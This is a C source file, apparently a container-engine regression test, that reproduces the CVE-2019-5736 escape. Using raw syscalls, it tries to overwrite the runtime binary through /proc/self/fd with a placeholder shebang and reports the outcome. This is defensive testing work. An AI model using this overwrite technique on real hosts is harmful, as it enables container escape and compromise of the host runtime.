/* What CVE-2019-5736 did: in an image it stands in for the loader of dynamic programs, so that it runs when the
 * engine's own binary is executed inside (`#!/proc/self/exe`). It keeps a descriptor of that binary, lets go of it as
 * its program, opens it for writing over and over, and leaves in `/result` how that went: an error number, or
 * `written`. It stands alone, without a C library: nobody has relocated it. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c, long d) {
    long result;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return result;
}

static void tell(const char *text, long length) {
    long file = call(SYS_openat, AT_FDCWD, (long)"/result.new", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    call(SYS_write, file, (long)text, length, 0);
    call(SYS_rename, (long)"/result.new", (long)"/result", 0, 0);
    call(SYS_exit_group, 0, 0, 0, 0);
}

static void overwrite(long binary) {
    char path[] = "/proc/self/fd/00";
    path[14] = '0' + binary / 10;
    path[15] = '0' + binary % 10;
    if (binary < 10) {
        path[14] = '0' + binary;
        path[15] = 0;
    }
    long error = 0;
    for (int attempt = 0; attempt < 3000; attempt++) {
        long file = call(SYS_openat, AT_FDCWD, (long)path, O_WRONLY, 0);
        long result = file < 0 ? file : call(SYS_write, file, (long)"#!/bin/pwned\n", 13, 0);
        if (result > 0)
            tell("written\n", 8);
        error = -result;
        if (error != 26) /* ETXTBSY: it is still being executed */
            break;
        long pause[2] = {0, 1000000};
        call(SYS_nanosleep, (long)pause, 0, 0, 0);
    }
    char text[] = "errno 00\n";
    text[6] = '0' + error / 10;
    text[7] = '0' + error % 10;
    tell(text, 9);
}

__attribute__((force_align_arg_pointer)) void _start(void) {
    long binary = call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH, 0);
    if (call(SYS_fork, 0, 0, 0, 0) == 0)
        overwrite(binary);
    const char *line = "until [ -e /result ]; do usleep 10000; done; cat /result; exec sleep ${LONGER:-0}";
    const char *argv[] = {"busybox", "sh", "-c", line, 0};
    const char *env[] = {"PATH=/bin", 0, 0};
    call(SYS_execve, (long)"/bin/busybox", (long)argv, (long)env, 0);
    call(SYS_exit_group, 1, 0, 0, 0);
}
